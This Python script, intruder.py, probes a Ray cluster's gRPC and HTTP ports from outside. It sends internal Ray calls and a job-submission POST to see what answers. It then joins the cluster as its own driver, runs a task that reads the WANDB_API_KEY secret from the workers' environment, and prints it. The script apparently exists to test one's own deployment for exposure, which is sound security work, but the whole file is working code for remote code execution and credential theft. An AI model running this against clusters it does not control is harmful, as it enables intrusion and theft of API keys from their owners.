"""Someone who can reach the ports of a running search, from its machine or another, and knows nothing else.

Run as `python -P intruder.py HOST PORT,PORT,… [ADDRESS]` in an empty environment. Prints what each port answered to
Ray's calls and to a browser, and what a driver of the intruder's own that joins the Ray at ADDRESS could read there.
"""

from __future__ import annotations

import json
import os
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPException

import grpc

CALLS = (  # of each of Ray's services
    "CoreWorkerService/PushTask",
    "CoreWorkerService/GetCoreWorkerStats",
    "NodeManagerService/RequestWorkerLease",
    "NodeManagerService/GetNodeStats",
    "ObjectManagerService/Pull",
    "InternalKVGcsService/InternalKVKeys",
    "JobInfoGcsService/GetAllJobInfo",
    "NodeInfoGcsService/GetAllNodeInfo",
    "ReporterService/GetTraceback",
)
PAGES = ("/", "/metrics", "/api/job_agent/jobs/", "/get_or_create_runtime_env")
PATIENCE_S = 60.0


def answers(place: str) -> dict[str, str]:
    return dict(_called(place)) | dict(_asked(place))


def _called(place: str) -> Iterator[tuple[str, str]]:
    """How Ray's calls end at an address; nothing where no such server listens."""
    with grpc.insecure_channel(place) as channel:
        for name in CALLS:
            try:
                channel.unary_unary(f"/ray.rpc.{name}")(b"", timeout=PATIENCE_S)
                yield name, "answered"
            except grpc.RpcError as error:
                if error.code() is grpc.StatusCode.UNAVAILABLE:
                    return
                yield name, error.code().name


def _asked(place: str) -> Iterator[tuple[str, str]]:
    """What a web server at an address answers; nothing where there is none."""
    for page in PAGES:
        for content in (None, b'{"entrypoint": "id"}'):
            try:
                with urllib.request.urlopen(f"http://{place}{page}", content, PATIENCE_S) as answer:
                    code = answer.status
            except urllib.error.HTTPError as error:
                code = error.code
            except (OSError, HTTPException):
                return
            yield f"{'POST' if content else 'GET'} {page}", str(code)


def stolen(address: str) -> str:
    """What a task finds in the environment of somebody else's Ray."""
    os.environ["RAY_NUM_REDIS_GET_RETRIES"] = "3"  # of 20: how often it asks, a second apart
    import ray

    @ray.remote(num_cpus=0)
    def key() -> str:
        return os.environ["WANDB_API_KEY"]

    try:
        ray.init(address, log_to_driver=False)
        return str(ray.get(key.remote(), timeout=PATIENCE_S))
    except Exception as error:
        return f"refused: {type(error).__name__}"


if __name__ == "__main__":
    host, ports, *ray_address = sys.argv[1:]
    with ThreadPoolExecutor() as pool:
        found = pool.map(answers, [f"{host}:{port}" for port in ports.split(",")])
    said = dict(zip(ports.split(","), found, strict=True))
    print(json.dumps({"answers": said, "stolen": stolen(*ray_address) if ray_address else ""}))
